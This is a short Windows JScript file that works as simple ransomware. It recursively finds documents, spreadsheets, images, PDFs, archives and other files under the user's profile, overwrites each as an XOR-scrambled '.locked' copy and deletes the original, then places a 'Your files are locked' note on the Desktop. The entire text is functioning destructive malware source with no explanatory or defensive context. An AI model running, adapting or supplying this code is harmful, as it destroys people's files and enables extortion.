var fso = new ActiveXObject("Scripting.FileSystemObject"), shell = new ActiveXObject("WScript.Shell");
function mix(text) { var out = ""; for (var i = 0; i < text.length; i++) out += String.fromCharCode(text.charCodeAt(i) ^ 77); return out; }
function walk(folder) {
  for (var f = new Enumerator(folder.Files); !f.atEnd(); f.moveNext()) {
    var path = f.item().Path;
    if (!/\.(docx|xlsx|jpg|pdf|txt|csv|pptx|zip)$/i.test(path)) continue;
    var input = fso.OpenTextFile(path, 1), text = input.ReadAll(); input.Close();
    var output = fso.CreateTextFile(path + ".locked", true); output.Write(mix(text)); output.Close();
    fso.DeleteFile(path);
  }
  for (var d = new Enumerator(folder.SubFolders); !d.atEnd(); d.moveNext()) walk(d.item());
}
walk(fso.GetFolder(shell.ExpandEnvironmentStrings("%USERPROFILE%")));
var note = fso.CreateTextFile(shell.SpecialFolders("Desktop") + "\\READ_ME.txt"); note.Write("Your files are locked"); note.Close();
